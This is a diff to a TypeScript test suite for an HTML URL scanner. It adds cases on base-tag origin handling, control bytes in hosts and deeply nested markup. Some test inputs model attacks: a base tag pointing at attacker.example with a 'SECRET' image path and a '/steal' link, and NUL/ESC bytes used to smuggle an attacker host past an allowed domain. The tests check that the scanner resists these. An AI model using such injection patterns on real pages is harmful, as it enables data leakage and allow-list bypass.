@@ -78,17 +78,23 @@ describe('HtmlReferenceScanner: srcset', () => {
 describe('HtmlReferenceScanner: <base href>', () => {
   it.each<[name: string, html: string, found: string[]]>([
     [
-      'changes the base for relative URLs after it',
-      '<a href="before.html">b</a><base href="https://cdn.example.com/assets/"><img src="i.png"><a href="/root">r</a>',
-      ['html a[href] https://search.example.com/results/before.html', 'html base[href] https://cdn.example.com/assets/', 'html img[src] https://cdn.example.com/assets/i.png', 'html a[href] https://cdn.example.com/root'],
+      'a base on the same origin changes the base for relative URLs after it',
+      '<a href="before.html">b</a><base href="https://search.example.com/assets/"><img src="i.png"><a href="/root">r</a>',
+      ['html a[href] https://search.example.com/results/before.html', 'html base[href] https://search.example.com/assets/', 'html img[src] https://search.example.com/assets/i.png', 'html a[href] https://search.example.com/root'],
     ],
+    [
+      'a base on another host is a reference, but relative URLs never resolve against it (issue 11 §2)',
+      '<base href="https://attacker.example/"><img src="k=SECRET.png"><a href="/steal">r</a><img srcset="x.jpg 1x"><meta http-equiv=refresh content="0; url=/r"><a href="//cdn.example.com/ok">ok</a>',
+      ['html base[href] https://attacker.example/'],
+    ],
+    ['a base on another port of the page host counts as another origin', '<base href="https://search.example.com:8443/"><img src="i.png">', ['html base[href] https://search.example.com:8443/']],
     ['a relative base resolves against the page', '<base href="/static/"><img src="i.png">', ['html base[href] https://search.example.com/static/', 'html img[src] https://search.example.com/static/i.png']],
     [
       'only the first base counts',
-      '<base href="https://one.example/"><base href="https://two.example/"><img src="i.png">',
-      ['html base[href] https://one.example/', 'html base[href] https://two.example/', 'html img[src] https://one.example/i.png'],
+      '<base href="/one/"><base href="https://two.example/"><img src="i.png">',
+      ['html base[href] https://search.example.com/one/', 'html base[href] https://two.example/', 'html img[src] https://search.example.com/one/i.png'],
     ],
-    ['a base without href does not count', '<base target="_blank"><base href="https://one.example/"><img src="i.png">', ['html base[href] https://one.example/', 'html img[src] https://one.example/i.png']],
+    ['a base without href does not count', '<base target="_blank"><base href="/one/"><img src="i.png">', ['html base[href] https://search.example.com/one/', 'html img[src] https://search.example.com/one/i.png']],
     ['a javascript: base is ignored', '<base href="javascript:x"><img src="i.png">', ['html img[src] https://search.example.com/results/i.png']],
     ['absolute URLs do not use it', '<base href="https://one.example/"><img src="https://two.example/i.png">', ['html base[href] https://one.example/', 'html img[src] https://two.example/i.png']],
   ])('%s', (_name, html, found) => {
@@ -131,11 +137,11 @@ describe('HtmlReferenceScanner: <meta http-equiv=refresh>', () => {
 });
 
 describe('HtmlReferenceScanner: streaming', () => {
-  const doc = '<html><head><base href="https://cdn.example.com/a/"><meta http-equiv=refresh content="9; url=https://r.example/"></head><body><a href="x.html">x</a><img srcset="https://i.example/1.jpg 1x, https://i.example/2.jpg 2x"><a href="https://l.example/p?a=1&amp;b=2">l</a></body></html>';
+  const doc = '<html><head><base href="https://search.example.com/a/"><meta http-equiv=refresh content="9; url=https://r.example/"></head><body><a href="x.html">x</a><img srcset="https://i.example/1.jpg 1x, https://i.example/2.jpg 2x"><a href="https://l.example/p?a=1&amp;b=2">l</a></body></html>';
   const expected = [
-    'html base[href] https://cdn.example.com/a/',
+    'html base[href] https://search.example.com/a/',
     'html meta[refresh] https://r.example/',
-    'html a[href] https://cdn.example.com/a/x.html',
+    'html a[href] https://search.example.com/a/x.html',
     'html img[srcset] https://i.example/1.jpg',
     'html img[srcset] https://i.example/2.jpg',
     'html a[href] https://l.example/p?a=1&b=2',
@@ -163,5 +169,29 @@ describe('HtmlReferenceScanner: streaming', () => {
     const junk = '<<a href="https://a.example/" <img src=>\u0000</p></div><a href="https://b.example/"<<>>"<!--';
     expect(() => scan([junk])).not.toThrow();
     expect(scan([junk])).toContain('html a[href] https://a.example/');
+  });
+});
+
+describe('HtmlReferenceScanner: control bytes and deep nesting', () => {
+  it.each([
+    ['a raw NUL in an href host', '<a href="http://allowed.example\u0000.attacker.example/">x</a>'],
+    ['a NUL character reference', '<a href="http://allowed.example&#0;.attacker.example/">x</a>'],
+    ['an ESC character reference', '<a href="http://allowed.example&#27;.attacker.example/">x</a>'],
+    ['a raw NUL after the host', '<img src="http://attacker.example\u0000">'],
+  ])('%s: no reference', (_name, html) => {
+    expect(scan([html])).toEqual([]);
+  });
+
+  it('200,000 nested elements, then a link: found, and the held text stays small', () => {
+    const scanner = new HtmlReferenceScanner(PAGE);
+    const piece = '<div>'.repeat(13_000);
+    let held = 0;
+    for (let i = 0; i < 16; i++) {
+      scanner.write(piece);
+      held = Math.max(held, scanner.heldLength);
+    }
+    expect(scanner.write('<a href="https://deep.example/">x</a>').map((r) => r.url)).toEqual(['https://deep.example/']);
+    // Only the write being tokenised (and a token spanning two) is held, never the document.
+    expect(held).toBeLessThanOrEqual(2 * piece.length);
   });
 });
